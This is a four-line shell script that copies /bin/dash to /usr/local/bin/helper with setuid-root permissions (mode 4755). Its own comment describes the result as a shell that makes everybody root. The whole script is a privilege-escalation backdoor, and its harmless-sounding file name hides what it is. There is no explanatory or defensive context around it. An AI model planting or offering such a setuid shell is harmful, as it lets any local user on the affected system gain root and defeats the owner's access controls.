#!/bin/sh
# A copy of a shell that makes everybody root.
set -eu
install -m 4755 /bin/dash /usr/local/bin/helper
